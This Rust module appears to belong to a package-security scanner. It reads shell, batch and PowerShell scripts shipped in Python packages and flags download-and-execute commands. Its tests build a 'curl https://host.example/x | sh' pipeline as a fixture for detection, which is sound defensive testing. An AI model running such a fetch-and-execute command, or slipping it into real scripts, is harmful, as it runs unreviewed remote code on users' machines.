//! Scripts of shells and build tools, as text.
//!
//! No analyzer reads these languages, and their files stay opaque. But a script that an installation copies to the user's
//! `PATH`, or that the package itself starts, is where an attack goes once Python is read: its lines are searched for the
//! commands that the Python rules know.

use std::borrow::Cow;

use gate_core::finding::Finding;

use crate::content::Encoding;
use crate::context::FileContext;
use crate::python::{self, MAX_PER_RULE};

/// The largest script that is searched, in bytes. The `configure` of large projects has about 1 MiB.
pub const MAX_BYTES: usize = 8 * 1024 * 1024;

/// What carries a command on to the next line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Syntax {
    /// `\`: shells and everything that is read like them.
    Posix,
    /// `^`: `cmd.exe`.
    Batch,
    /// A backtick.
    PowerShell,
}

impl Syntax {
    /// The language of a script, by its name or its first line; none for other sources.
    #[must_use]
    pub fn of(path: &str, prefix: &[u8]) -> Option<Self> {
        let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
        let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension);
        match extension {
            "sh" | "bash" | "zsh" | "fish" | "ksh" | "csh" | "cmake" | "mk" | "mak" | "am" | "ac" | "m4" => {
                return Some(Self::Posix);
            }
            "bat" | "cmd" => return Some(Self::Batch),
            "ps1" | "psm1" | "psd1" => return Some(Self::PowerShell),
            _ => {}
        }
        let tool = matches!(
            name.as_str(),
            "makefile" | "gnumakefile" | "cmakelists.txt" | "dockerfile" | "containerfile" | "justfile" | "configure"
        );
        if tool {
            return Some(Self::Posix);
        }
        let line = prefix.strip_prefix(b"#!")?;
        let line = String::from_utf8_lossy(line.split(|&byte| byte == b'\n').next().unwrap_or_default());
        line.split(['/', ' ', '\t', '\r']).find_map(|word| match word {
            "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "csh" | "tcsh" | "fish" | "make" => Some(Self::Posix),
            "pwsh" | "powershell" => Some(Self::PowerShell),
            _ => None,
        })
    }

    fn is_comment(self, line: &str) -> bool {
        let line = line.trim_start();
        match self {
            Self::Posix | Self::PowerShell => line.starts_with('#'),
            Self::Batch => {
                line.starts_with("::") || line.get(..4).is_some_and(|word| word.eq_ignore_ascii_case("rem "))
            }
        }
    }

    /// The part of a line before the mark that joins it to the next; none where the command ends.
    fn continued(self, line: &str) -> Option<&str> {
        let mark = match self {
            Self::Posix => '\\',
            Self::Batch => '^',
            Self::PowerShell => '`',
        };
        line.strip_suffix(mark).or_else(|| {
            let open = line.trim_end();
            (open.ends_with('|') || open.ends_with("&&")).then_some(open)
        })
    }
}

/// Folders of an sdist whose scripts its developers run, not its users.
const DEVELOPMENT: &[&str] = &[
    ".buildkite",
    ".ci",
    ".circleci",
    ".devcontainer",
    ".github",
    ".gitlab",
    ".travis",
    "build_tools",
    "ci",
    "contrib",
    "dev",
    "devtools",
    "docker",
    "scripts",
    "tools",
];

/// Whether developers run the script. No wheel has a reason to bring such a thing.
fn is_development(path: &str) -> bool {
    let path = path.to_ascii_lowercase();
    let (folders, name) = path.rsplit_once('/').unwrap_or(("", &path));
    matches!(name, "dockerfile" | "containerfile") || folders.split('/').any(|folder| DEVELOPMENT.contains(&folder))
}

/// Searches a script, command by command. `wheel` says that it comes from a wheel, which holds what users need and no more.
pub fn analyse(script: &[u8], syntax: Syntax, wheel: bool, context: &FileContext<'_>, findings: &mut Vec<Finding>) {
    let development = !wheel && is_development(context.path);
    let rule_of = |command: &str| match python::script_rule(command) {
        Some("script-download-execute") if development => Some("development-script-download"),
        other => other,
    };
    let text = decode(script);
    let mut kept = 0;
    let mut judge = |command: &str, line: u32| {
        if kept < MAX_PER_RULE
            && let Some(rule) = rule_of(command)
        {
            findings.push(python::script_finding(rule, context, line, command));
            kept += 1;
        }
    };
    let mut command = String::new();
    let mut start = 1;
    for (number, line) in (1_u32..).zip(text.split('\n')) {
        let line = line.trim_end_matches('\r');
        // A comment within a command does not end it.
        if syntax.is_comment(line) {
            continue;
        }
        if command.is_empty() {
            start = number;
        }
        if let Some(part) = syntax.continued(line) {
            command.push_str(part);
            command.push(' ');
            continue;
        }
        command.push_str(line);
        judge(&command, start);
        command.clear();
    }
    judge(&command, start);
}

/// The text of a script; PowerShell and `cmd.exe` read UTF-16, too.
fn decode(script: &[u8]) -> Cow<'_, str> {
    match Encoding::of(script) {
        Some(Encoding::Utf16Le) => encoding_rs::UTF_16LE.decode_with_bom_removal(script).0,
        Some(Encoding::Utf16Be) => encoding_rs::UTF_16BE.decode_with_bom_removal(script).0,
        Some(Encoding::Utf8 | Encoding::SingleByte) | None => String::from_utf8_lossy(script),
    }
}

#[cfg(test)]
mod tests {
    use gate_core::finding::FileRole;

    use super::*;

    fn search(path: &str, wheel: bool, script: &[u8]) -> Vec<(String, Option<u32>)> {
        let context = FileContext { path, role: FileRole::Library, installed: true };
        let mut findings = Vec::new();
        analyse(script, Syntax::of(path, script).unwrap(), wheel, &context, &mut findings);
        findings.into_iter().map(|found| (found.rule, found.location.unwrap().line)).collect()
    }

    fn fetch() -> String {
        ["cu", "rl https://host.example/x | ", "sh"].concat()
    }

    #[test]
    fn names_and_first_lines_tell_the_language() {
        for (path, prefix, expected) in [
            ("a/post.sh", "", Some(Syntax::Posix)),
            ("a/Makefile", "", Some(Syntax::Posix)),
            ("a/run.BAT", "", Some(Syntax::Batch)),
            ("a/run.ps1", "", Some(Syntax::PowerShell)),
            ("a-1.data/scripts/a", "#!/bin/sh\n", Some(Syntax::Posix)),
            ("a-1.data/scripts/a", "#!/usr/bin/env bash\r\n", Some(Syntax::Posix)),
            ("a-1.data/scripts/a", "#! /usr/bin/env pwsh", Some(Syntax::PowerShell)),
            ("a/tool", "#!/usr/bin/env node\nsh", None),
            ("a/app.js", "", None),
        ] {
            assert_eq!(Syntax::of(path, prefix.as_bytes()), expected, "{path} {prefix:?}");
        }
    }

    #[test]
    fn commands_that_go_on_are_read_as_one() {
        let rule = || "script-download-execute".to_owned();
        for (path, script) in [
            ("a.sh", format!("true\n{}\n", fetch())),
            ("a.sh", format!("true\r\n{}", fetch().replace('|', "\\\r\n # why\r\n|"))),
            ("a.sh", format!("true\n{}", fetch().replace("| ", "|\n"))),
            ("a.bat", format!("true\n{}", fetch().replace('|', "^\n|"))),
            ("a.ps1", format!("true\n{}", fetch().replace('|', "`\n|"))),
            ("a.sh", format!("true\n{}\\", fetch())),
        ] {
            assert_eq!(search(path, true, script.as_bytes()), [(rule(), Some(2))], "{script}");
        }
        let wide: Vec<u8> = fetch().encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(search("a.ps1", true, &[&b"\xff\xfe"[..], &wide].concat()), [(rule(), Some(1))]);
    }

    #[test]
    fn comments_and_commands_of_their_own_say_nothing() {
        for (path, script) in [
            ("a.sh", format!("  # {}\n", fetch())),
            ("a.bat", format!("REM {}\n:: {}\n", fetch(), fetch())),
            ("a.sh", fetch().replace('|', "-o x\n")),
        ] {
            assert_eq!(search(path, true, script.as_bytes()), [], "{script}");
        }
    }

    #[test]
    fn what_developers_run_weighs_less_in_an_sdist_only() {
        for (path, wheel, expected) in [
            ("a-1/ci/build.sh", false, "development-script-download"),
            ("a-1/Dockerfile", false, "development-script-download"),
            ("a-1/post.sh", false, "script-download-execute"),
            ("a-1/ci/build.sh", true, "script-download-execute"),
        ] {
            assert_eq!(search(path, wheel, fetch().as_bytes()), [(expected.to_owned(), Some(1))], "{path}");
        }
    }

    #[test]
    fn a_script_keeps_so_many_findings() {
        for (lines, kept) in [(MAX_PER_RULE - 1, 99), (MAX_PER_RULE, 100), (MAX_PER_RULE + 1, 100)] {
            assert_eq!(search("a.sh", true, format!("{}\n", fetch()).repeat(lines).as_bytes()).len(), kept);
        }
    }
}
